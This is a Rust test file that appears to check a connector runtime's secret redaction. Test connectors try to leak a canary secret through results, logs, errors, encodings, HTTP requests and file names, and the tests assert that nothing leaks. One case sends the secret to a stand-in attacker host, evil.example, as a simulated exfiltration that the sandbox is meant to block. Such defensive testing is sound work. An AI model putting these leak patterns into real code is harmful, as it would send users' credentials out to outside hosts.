//! A canary: connectors that leak a secret every way they can, and a search of all that the program prints.

use portcullis_runtime::REDACTED;
use serde_json::json;

use crate::loopback::server::{Reply, TestServer};
use crate::workspace::{Ran, Workspace};

/// With characters that JSON, URLs and base64 each write in another way.
const CANARY: &str = "c4n/ry+ \"k\\y\" ü&x=1~Zz0";

/// The canary as it may come out. The base64 forms are those of its inner bytes at each of the three alignments.
fn forms() -> Vec<String> {
    let json = serde_json::to_string(CANARY).unwrap();
    let json = json[1..json.len() - 1].to_owned();
    vec![
        CANARY.to_owned(),
        json.clone(),
        json.replace('ü', "\\u00fc"),
        "c4n%2Fry%2B%20%22k%5Cy%22%20%C3%BC%26x%3D1~Zz0".to_owned(),
        "c4n%2Fry%2B+%22k%5Cy%22+%C3%BC%26x%3D1%7EZz0".to_owned(),
        "c4n/ry+%20%22k".to_owned(),
        "YzRuL3J5KyAia1x5IiDDvCZ4PTF+WnowC".to_owned(),
        "YzRuL3J5KyAia1x5IiDDvCZ4PTF-".to_owned(),
        "YzRuL3J5KyAia1x5IiDDvCZ4PTF+".to_owned(),
        "M0bi9yeSsgImtceSIgw7wmeD0xflp6M".to_owned(),
        "jNG4vcnkrICJrXHkiIMO8Jng9MX5aej".to_owned(),
    ]
}

#[track_caller]
fn is_silent(what: &str, ran: &Ran) {
    for text in [&ran.stdout, &ran.stderr] {
        for form in forms() {
            assert!(!text.contains(&form), "{what}: {form:?} in\n{text}");
        }
        // JSON output escapes what it prints once more, and JSON in it was escaped before.
        let mut unescaped = text.clone();
        for _ in 0..3 {
            unescaped = unescaped.replace("\\\"", "\"").replace("\\\\", "\\");
            for form in forms() {
                assert!(!unescaped.contains(&form), "{what}: {form:?}, escaped, in\n{text}");
            }
        }
    }
}

/// Each leak runs in words and as JSON, with the secret from the command line and from a file.
#[track_caller]
fn leak(what: &str, manifest: serde_json::Value, execute: &str, flags: &[&str], shows: bool) {
    let here = Workspace::new();
    let code = format!(
        "const leak = (ctx: any, s: string) => {{\n{execute}\n}};\n\
         function testConnection(ctx) {{ return leak(ctx, ctx.secrets.get('key')); }}\n\
         function execute(ctx) {{ return leak(ctx, ctx.secrets.get('key')); }}\n"
    );
    here.connector_with_code("leaky", manifest, &code);
    here.write("secrets.env", format!("key={CANARY}\n"));
    let secret = format!("key={CANARY}");
    for source in [["--secret", &secret], ["--secrets-file", "secrets.env"]] {
        for call in [&["run", "leaky", "go"] as &[&str], &["test", "leaky"]] {
            for mode in [&[] as &[&str], &["--json"]] {
                let ran = here.run(&[call, &source, mode, flags].concat());
                is_silent(what, &ran);
                assert_ne!(ran.status, Some(2), "{what} didn't run: {ran:#?}");
                let marked = ran.stdout.contains(REDACTED) || ran.stderr.contains(REDACTED);
                assert!(marked || !shows, "{what}: nothing was redacted in {ran:#?}");
            }
        }
    }
}

#[test]
fn results_logs_and_errors_are_silent() {
    for (what, execute) in [
        ("result", "return s;"),
        ("nested result", "return { a: [{ b: `x${s}y` }] };"),
        ("key", "return { [s]: 1, [`x${s}`]: { [s]: s } };"),
        ("JSON text", "return JSON.stringify({ s });"),
        ("JSON text in JSON text", "return JSON.stringify(JSON.stringify([s]));"),
        (
            "URL-encoded",
            "return [encodeURIComponent(s), encodeURI(s), encodeURIComponent(s).replace(/%20/g, '+').replace(/~/g, '%7E')];",
        ),
        (
            "base64",
            "return [ctx.base64Encode(s), ctx.base64Encode('u:' + s), ctx.base64Encode('ab' + s + 'cd'), ctx.base64Encode('abc' + s)];",
        ),
        (
            "base64url",
            "return ctx.base64Encode('u:' + s).replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '');",
        ),
        ("basic", "return `Basic ${ctx.base64Encode(`ada:${s}`)}`;"),
        (
            "logs",
            "for (const level of ['debug', 'log', 'info', 'warn', 'error']) (console as any)[level](s, { s }, [s], new Error(s)); return 1;",
        ),
        ("thrown error", "throw new Error(`refused ${s}`);"),
        ("thrown string", "throw s;"),
        ("thrown object", "throw { message: s, [s]: s };"),
        ("error's name", "const e = new Error('x'); e.name = s; throw e;"),
        ("cause", "throw new Error('outer', { cause: new Error(s) });"),
        ("stack", "({ [s]() { throw new Error('inside'); } } as any)[s]();"),
        ("rejected promise", "return Promise.reject(new Error(s));"),
        ("failed test", "return { success: false, message: s, more: { [s]: s } };"),
        ("what is no JSON", "const o: any = { s }; o.self = o; return o;"),
    ] {
        let silent_by_itself = ["cause", "stack", "error's name", "thrown object", "what is no JSON"];
        leak(what, json!({}), execute, &[], !silent_by_itself.contains(&what));
    }
}

#[test]
fn a_secret_split_over_values_is_not_whole_anywhere() {
    leak("split", json!({}), "return { a: s.slice(0, 8), b: s.slice(8) };", &[], false);
    leak(
        "characters",
        json!({}),
        "return Object.fromEntries([...s].map((c, i) => [`${i}`, c]));",
        &[],
        false,
    );
}

#[test]
fn what_goes_over_the_network_is_silent() {
    let server = TestServer::start(|request| {
        let authorization = request.header("x-key").unwrap_or("none").to_owned();
        let echo = json!({"head": request.head, "authorization": authorization}).to_string();
        Reply::status("418 Teapot", &[("Content-Type", "application/json"), ("X-Echo", &authorization)], echo)
    });
    let manifest = json!({"allowedHosts": [format!("http://127.0.0.1:{}", server.port())]});
    let flags = ["--allow-network", "127.0.0.1"];
    let url = server.url("");
    for (what, code) in [
        (
            "URL",
            "const r = ctx.http.get(`URL/${encodeURIComponent(s)}?q=${encodeURIComponent(s)}`); return r.body;",
        ),
        (
            "echoed header",
            "const r = ctx.http.get('URL/', { headers: { 'X-Key': ctx.base64Encode(s) } }); return [r.headers, r.body];",
        ),
        (
            "echoed basic",
            "const r = ctx.http.get('URL/', { headers: { 'X-Key': 'Basic ' + ctx.base64Encode('ada:' + s) } }); throw new Error(r.text());",
        ),
    ] {
        leak(what, manifest.clone(), &code.replace("URL", &url), &flags, true);
    }
    for (what, code) in [
        ("raw URL", format!("return ctx.http.get(`{url}/?q=${{s}}`).status;")),
        ("refused URL", "return ctx.http.get(`http://127.0.0.1:1/?q=${s}`);".to_owned()),
        (
            "blocked host",
            "return ctx.http.get(`https://evil.example/?q=${encodeURIComponent(s)}`);".to_owned(),
        ),
        ("host name", "return ctx.http.get(`https://${encodeURIComponent(s)}.example/`);".to_owned()),
        (
            "header that can't be sent",
            format!("return ctx.http.get('{url}/', {{ headers: {{ 'X-Key': s + '\\r\\n' }} }});"),
        ),
        ("method", format!("return ctx.http.post('{url}/', {{ body: s, binaryBody: s }});")),
    ] {
        leak(what, manifest.clone(), &code, &flags, false);
    }
}

#[test]
fn files_are_silent() {
    let code = "const r = ctx.files.store(s, { encoding: 'utf-8', contentType: `text/${s}`, fileName: `${s}.txt` }); return r;";
    leak("file", json!({}), code, &["--files", "stored"], true);
}

#[test]
fn what_the_command_line_says_itself_is_silent() {
    let here = Workspace::new();
    let schema =
        json!({"type": "object", "properties": {"a": {"type": "integer"}}, "additionalProperties": false});
    here.connector(
        "strict",
        json!({"operations": [{"name": "go", "parametersSchema": schema}]}),
        "return 1;",
    );
    let secret = format!("key={CANARY}");
    let value = json!({"a": CANARY}).to_string();
    let unknown = json!({CANARY: 1}).to_string();
    let broken = format!("{value} x");
    let missing = format!("@{CANARY}");
    here.write("params.json", &broken);
    for arguments in [
        &["run", "strict", CANARY] as &[&str],
        &["run", "strict", "go", "--params", &value],
        &["run", "strict", "go", "--params", &unknown],
        &["run", "strict", "go", "--params", &broken],
        &["run", "strict", "go", "--params", CANARY],
        &["run", "strict", "go", "--params", &missing],
        &["run", "strict", "go", "--params", "@params.json"],
        &["run", "strict", "go", "--allow-network", CANARY],
        &["run", "strict", "go", "--egress-map", CANARY],
        &["run", "strict", "go", "--ca-file", CANARY],
        &["run", "strict", "go", "--files", &format!("/dev/null/{CANARY}")],
        &["run", CANARY, "go"],
    ] {
        for mode in [&[] as &[&str], &["--json"]] {
            let ran = here.run(&[arguments, mode, &["--secret", &secret]].concat()).exits(2);
            is_silent(&format!("{arguments:?}"), &ran);
        }
    }
}
